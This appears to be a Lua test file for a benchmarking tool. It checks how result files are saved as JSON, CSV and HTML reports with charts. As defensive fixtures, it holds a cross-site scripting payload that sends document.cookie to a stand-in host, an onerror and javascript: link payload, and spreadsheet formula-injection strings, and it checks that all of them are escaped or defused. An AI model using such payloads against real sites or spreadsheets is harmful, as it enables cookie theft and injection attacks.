-- test_results.lua: wb.results files (JSON with the fingerprint, CSV quoting, HTML) and
-- wb.report charts, and their bad input.
local lu = require("luaunit")
local cjson = require("cjson")
local scratch = require("scratch")

local read = scratch.read

TestResults = {}

function TestResults:test_save_writes_three_files_with_fingerprint()
    local dir = scratch.path("_d")
    local r = wb.results("unit", {columns = {"mode", "ms"}})
    r:add{mode = "eager", ms = 1.5, kernels = 5}
    r:add{mode = 'quote "and", comma', ms = 2}
    local p = r:save{dir = dir, report = {text = {"extra"}}}
    local doc = cjson.decode(read(p.json))
    lu.assertEquals(doc.name, "unit")
    lu.assertEquals(doc.columns, {"mode", "ms", "kernels"})
    lu.assertEquals(doc.rows[1].kernels, 5)
    for _, k in ipairs({"workbench", "commit", "cpu", "isa", "threads", "seed", "command", "date", "device"}) do
        lu.assertNotNil(doc.fingerprint[k], k)
    end
    lu.assertEquals(doc.fingerprint.seed, tostring(wb.initial_seed()))
    local csv = read(p.csv)
    lu.assertStrContains(csv, "mode,ms,kernels\neager,1.5,5\n")
    lu.assertStrContains(csv, '"quote ""and"", comma",2,\n')
    lu.assertNotStrContains(csv, "\n#") -- plain CSV: the fingerprint is in the JSON
    lu.assertEquals(doc.csv_digest, require("wb.saveset").digest(csv))
    local html = read(p.html)
    lu.assertStrContains(html, "<p>extra</p>")
    lu.assertStrContains(html, "quote &quot;and&quot;, comma")
    os.execute("rm -rf '" .. dir .. "'")
end

-- A shared script's strings are data in the report, never HTML: every one is escaped, html_extra
-- is gone, and the page's policy lets it run no script and fetch nothing even if markup got in.
function TestResults:test_the_report_runs_no_script()
    local dir = scratch.path("_hostile")
    local evil = "<script>fetch('http://x/'+document.cookie)</script><img src=x onerror=alert(1)>"
    local r = wb.results("hostile" , {columns = {"mode", "ms"}})
    r:add{mode = evil, ms = 1, [evil] = 2}
    r:add{mode = "b", ms = 2, [evil] = 3}
    lu.assertErrorMsgContains("html_extra is gone", function() r:save{dir = dir, html_extra = "<p>x</p>"} end)
    lu.assertErrorMsgContains("report.links[1] must be {text=, href=a file name beside the report}", function()
        r:save{dir = dir, report = {links = {{text = "x", href = "javascript:alert(1)"}}}}
    end)
    lu.assertErrorMsgContains("report.script is not a part of a report", function()
        r:save{dir = dir, report = {script = "x"}}
    end)
    local p = r:save{dir = dir, report = {text = {evil}, warnings = {evil}, links = {{text = evil, href = "a.json"}},
        tables = {{title = evil, header = {evil}, rows = {{evil}}}},
        charts = {{kind = "line", title = evil, caption = evil, x_label = evil, x = "ms", y = "ms", series = "mode"},
            {kind = "bar", title = evil, group = "mode", value = "ms", series = "mode"}}}}
    local html = read(p.html)
    lu.assertNotStrContains(html, "<script")
    lu.assertNotStrContains(html, "<img")
    lu.assertStrContains(html, "&lt;script&gt;fetch(&#39;http://x/&#39;+document.cookie)&lt;/script&gt;")
    lu.assertStrContains(html, "<meta http-equiv='Content-Security-Policy' content=\"default-src 'none'; " ..
        "script-src 'none'; connect-src 'none';")
    lu.assertTrue(html:find("Content-Security-Policy", 1, true) < html:find("<title>", 1, true)) -- before any content
    lu.assertEquals(select(2, html:gsub("<figure>", "")), 2)
    os.execute("rm -rf '" .. dir .. "'")
end

-- The fingerprint names the device the measurements used, whichever option chose it: with the
-- mock plugin, --device auto picks cuda, but a script that measures on the cpu is a cpu run.
function TestResults:test_fingerprint_device_is_the_one_used()
    local exe = scratch.exe()
    local mock = exe:gsub("[^/]*$", "") .. "libwb_cuda_mock.so"
    local f = io.open(mock)
    if not f then
        print("skipped: no " .. mock)
        return
    end
    f:close()
    local dir = scratch.path("_fp")
    local function device_of(options, script)
        local p = io.popen(string.format("WB_CUDA_PLUGIN=%s %s %s -e '%s; local r = wb.results(\"fp\"); " ..
            "r:add{a = 1}; io.write(r:save{dir = \"%s\"}.json)'", mock, exe, options, script, dir))
        local path = p:read("a")
        p:close()
        local fp = cjson.decode(read(path)).fingerprint
        return fp.device, fp.cuda
    end
    -- auto chose cuda and the script used it
    lu.assertEquals({device_of("--device auto", "local x = wb.ones({4}) + 1")}, {"cuda", "used"})
    -- auto chose cuda, the script asked for the cpu (as mlp_sweep.lua --device cpu does)
    lu.assertEquals({device_of("--device auto", "local x = wb.ones({4}, {device = \"cpu\"}) + 1")},
        {"cpu", "available"})
    -- --device cpu, the script moved its tensors to cuda
    lu.assertEquals({device_of("--device cpu", "local x = wb.ones({4}):to{device = \"cuda\"} + 1")}, {"cuda", "used"})
    os.execute("rm -rf '" .. dir .. "'")
end

function TestResults:test_bad_input()
    lu.assertErrorMsgContains("name must be a plain file name", function() wb.results("../x") end)
    local r = wb.results("ok")
    lu.assertErrorMsgContains("column 'f' holds a function", function() r:add{f = print} end)
    lu.assertErrorMsgContains("unknown save option 'folder'", function() r:save{folder = "/tmp"} end)
    lu.assertErrorMsgContains("cannot", function() r:save{dir = "/proc/no/such/dir"} end)
end

-- r:save{} without dir puts the files in a folder named after the time, so it says where, in one
-- line on stderr (issue 47); with dir the caller knows (and experiments print it), and quiet = true
-- silences it.
function TestResults:test_save_without_dir_says_where()
    local exe = scratch.exe()
    local out, err = scratch.path("_out"), scratch.path(".err")
    local script = scratch.file([[
local r = wb.results("said")
r:add{a = 1}
io.write("returned ", r:save{}.json, "\n")
io.stderr:write("--\n")
r:save{dir = wb.options.out .. "/given"}
r:save{quiet = true}
io.write(tostring(pcall(r.save, r, {quiet = "yes"})), "\n")
]], ".lua")
    local p = io.popen(string.format("%s --out '%s' '%s' 2>'%s'", exe, out, script, err))
    local stdout = p:read("a")
    p:close()
    local stderr = read(err):gsub("warning: busy machine[^\n]*\n", "")
    lu.assertEquals(stdout, "returned " .. out .. "/said.json\nfalse\n")
    lu.assertEquals(stderr, "results: saved " .. out .. "/said.json, .csv and .html\n--\n")
    for _, ext in ipairs({".json", ".csv", ".html"}) do lu.assertNotNil(io.open(out .. "/said" .. ext), ext) end
    lu.assertErrorMsgContains("results: quiet must be true or false, got string",
        function() wb.results("q"):save{dir = out, quiet = "yes"} end)
    os.execute("rm -rf '" .. out .. "'")
end

function TestResults:test_charts_are_svg()
    local report = require("wb.report")
    local svg = report.line_chart{title = "t <1>", x_label = "x", y_label = "y", log_x = true, log_y = true,
        series = {{name = "a&b", points = {{1, 2}, {10, 20}}}}, caption = "what it shows"}
    lu.assertStrContains(svg, "<svg")
    lu.assertStrContains(svg, "t &lt;1&gt;")
    lu.assertStrContains(svg, "a&amp;b")
    lu.assertStrContains(svg, "<figcaption>what it shows</figcaption>")
    lu.assertStrContains(report.bar_chart{title = "b", groups = {"1"}, series = {{name = "s", values = {2}}},
        reference = 1}, "<rect")
    lu.assertStrContains(report.roofline{title = "r", peak_gflops = 100, bandwidth_gbs = 10,
        points = {{name = "k", intensity = 1, gflops = 5}}}, "<circle")
end

function TestResults:test_unstable_rows_samples_and_machine_state()
    local dir = scratch.path("_unstable")
    local r = wb.results("noisy", {keys = {"n"}, config = {dim = 8}, target_noise = 0.1, quiet = true})
    r:add{n = 1, median_ms = 1, noise = 0.05, samples_ms = {0.9, 1, 1.1}}
    r:add{n = 2, median_ms = 2, noise = 0.4, samples_ms = {1, 2, 3}}
    r:add{n = 3, median_ms = 3} -- no noise column: not judged
    local paths = r:save{dir = dir}
    local doc = cjson.decode(read(paths.json))
    lu.assertEquals(doc.rows[1].unstable, false)
    lu.assertEquals(doc.rows[2].unstable, true)
    lu.assertNil(doc.rows[3].unstable)
    lu.assertEquals(doc.rows[2].samples_ms, {1, 2, 3})
    lu.assertEquals(doc.config, {dim = 8})
    lu.assertEquals(doc.fingerprint.target_noise, 0.1)
    local fp = doc.fingerprint
    if fp.machine_start_state ~= "unreadable" then
        for _, k in ipairs({"load1", "cpus", "other_runnable", "steal_pct", "governor", "busy"}) do
            lu.assertNotNil(fp["machine_start_" .. k], k)
            lu.assertNotNil(fp["machine_end_" .. k], k)
        end
    end
    local csv = read(paths.csv)
    lu.assertStrContains(csv, "unstable")
    lu.assertStrMatches(csv, ".*\n2,2,0%.4,true\n.*") -- samples are in the JSON only
    local html = read(paths.html)
    lu.assertStrContains(html, "1 of 3 rows are unstable (noise, IQR / median, above 10%)")
    lu.assertStrContains(html, "<tr class='unstable'")
    os.execute("rm -rf '" .. dir .. "'")
    lu.assertErrorMsgContains("column 'samples_ms' holds a table that is not an array of numbers", r.add, r,
        {samples_ms = {1, "x"}})
    lu.assertErrorMsgContains("target_noise must be a number", wb.results, "x", {target_noise = "high"})
end

-- The CSV is opened in spreadsheets: a column name with a comma or quote is quoted like a value
-- (the header had as many cells as the rows), a carriage return is quoted, and text that would run
-- as a formula (= + - @) gets a leading ' there while the JSON keeps it as it was.
function TestResults:test_csv_quotes_names_and_defuses_formulas()
    local dir = scratch.path("_csv")
    local r = wb.results("inject", {columns = {"a,b", 'q"', "f"}, config = {["odd,key"] = "x"}})
    r:add{["a,b"] = 1, ['q"'] = "a\rb", f = '=HYPERLINK("http://x","y")', g = "@SUM(A1)", h = "+1", i = "-2", n = -3}
    local p = r:save{dir = dir}
    local csv = read(p.csv)
    lu.assertStrContains(csv, '"a,b","q""",f,g,h,i,n\n')
    lu.assertStrContains(csv, '\n1,"a\rb","\'=HYPERLINK(""http://x"",""y"")",\'@SUM(A1),\'+1,\'-2,-3\n')
    lu.assertNotStrContains(csv, "config_odd") -- the config is in the JSON, not in comment lines
    local doc = cjson.decode(read(p.json))
    lu.assertEquals(doc.rows[1].f, '=HYPERLINK("http://x","y")')
    lu.assertEquals(doc.rows[1].i, "-2")
    os.execute("rm -rf '" .. dir .. "'")
end

-- A set of files mixed between two saves (a kill between the JSON and the CSV, say) is marked:
-- each save stamps its three files with one id, and wb.saveset and compare name the odd one.
function TestResults:test_a_set_mixed_between_saves_is_named()
    local dir = scratch.path("_mixed")
    local function save(v)
        local r = wb.results("unit", {columns = {"mode", "ms"}})
        r:add{mode = "eager", ms = v}
        r:add{mode = "fused", ms = v / 2}
        return r:save{dir = dir}
    end
    local first = save(1)
    local old_csv, old_html = read(first.csv), read(first.html)
    lu.assertNil(require("wb.saveset").check(first.json))
    local second = save(2)
    lu.assertNotEquals(second.save_id, first.save_id)
    lu.assertNotStrContains(read(second.csv), "save_id") -- the CSV stays plain: the JSON holds its digest
    lu.assertStrContains(read(second.html), "<!-- save_id=" .. second.save_id .. " -->")
    lu.assertNil(require("wb.saveset").check(second.json))
    local current = second
    for name, old in pairs({csv = old_csv, html = old_html}) do
        local f = assert(io.open(current[name], "w"))
        f:write(old)
        f:close()
        local msg = require("wb.saveset").check(current.json)
        lu.assertStrContains(tostring(msg), "unit." .. name .. " is from another save (" .. (name == "html" and
            first.save_id or "its text is not the one this save wrote") .. ") than")
        lu.assertStrContains(msg, "(" .. current.save_id .. "): a save was interrupted between the files")
        current = save(3) -- whole again
    end
    -- compare reads the JSON and says the set is mixed
    local latest = save(4)
    local f = assert(io.open(latest.csv, "w"))
    f:write(old_csv)
    f:close()
    local p = io.popen(scratch.exe() .. " compare '" .. latest.json .. "' '" .. latest.json .. "' 2>&1")
    local out = p:read("a")
    p:close()
    lu.assertStrContains(out, "compare: warning: " .. dir .. "/unit.csv is from another save")
    os.execute("rm -rf '" .. dir .. "'")
end

-- The CSV is plain CSV: Python's csv module, strict and with its default field limit, reads a
-- header and one record per row, every record as long as the header, the values as saved (quoted
-- text, booleans); raw samples (20,000 of them in one row, as a 1-token row holds) stay in the
-- JSON; pandas.read_csv with its defaults too, where pandas is installed. No comment lines.
function TestResults:test_csv_reads_strictly_with_python()
    local probe = scratch.run("python3 -c 'import csv' 2>&1")
    lu.skipIf(probe ~= "", "python3 is not installed: " .. probe)
    local dir = scratch.path("_plain")
    local r = wb.results("plain", {keys = {"tokens", "mode"}, config = {dim = 64, dtype = "f32"}})
    r:add{tokens = 1, mode = "eager", median_ms = 0.25, samples_ms = {0.25, 0.5, 0.125}, noise = 0.01}
    r:add{tokens = 16, mode = 'odd, "name"', median_ms = 1.5, samples_ms = {1.5}, noise = 0.2, note = "line\nbreak"}
    local many = {}
    for i = 1, 20000 do many[i] = 0.0123456789 + i * 1e-9 end
    r:add{tokens = 1, mode = "dual", median_ms = 0.0123, samples_ms = many, noise = 0.02}
    local p = r:save{dir = dir}
    local text = read(p.csv)
    lu.assertNotStrContains(text, "\n#")
    lu.assertTrue(#text < 4096, "the CSV holds no samples: " .. #text .. " bytes")
    lu.assertEquals(#cjson.decode(read(p.json)).rows[3].samples_ms, 20000)
    local script = scratch.file([[
import csv, json, sys
with open(sys.argv[1], newline="") as f:
    records = list(csv.reader(f, strict=True))
doc = json.load(open(sys.argv[2]))
scalar = [c for c in doc["columns"] if not any(isinstance(r.get(c), list) for r in doc["rows"])]
assert "samples_ms" in doc["columns"] and "samples_ms" not in scalar, doc["columns"]
assert records[0] == scalar, (records[0], scalar)
assert len(records) == 1 + len(doc["rows"]), records
for rec, row in zip(records[1:], doc["rows"]):
    assert len(rec) == len(records[0]), rec
    got = dict(zip(records[0], rec))
    assert float(got["median_ms"]) == row["median_ms"], got
    assert got["mode"] == row["mode"] and got["unstable"] == str(row["unstable"]).lower(), got
    assert got.get("note", "") == row.get("note", ""), got
try:
    import pandas
except ImportError:
    print("pandas: not installed")
    sys.exit(0)
frame = pandas.read_csv(sys.argv[1])
assert list(frame.columns) == scalar and len(frame) == len(doc["rows"]), frame
print("pandas: read")
]], ".py")
    local out, code = scratch.run(string.format("python3 '%s' '%s' '%s' 2>&1", script, p.csv, p.json))
    lu.assertEquals(code, 0, out)
    lu.assertStrMatches(out, "^pandas: [%a ]+\n$")
    if out:match("not installed") then print("(pandas is not installed: read with the csv module only)") end
    os.execute("rm -rf '" .. dir .. "'")
end

scratch.exit(lu.LuaUnit.run())
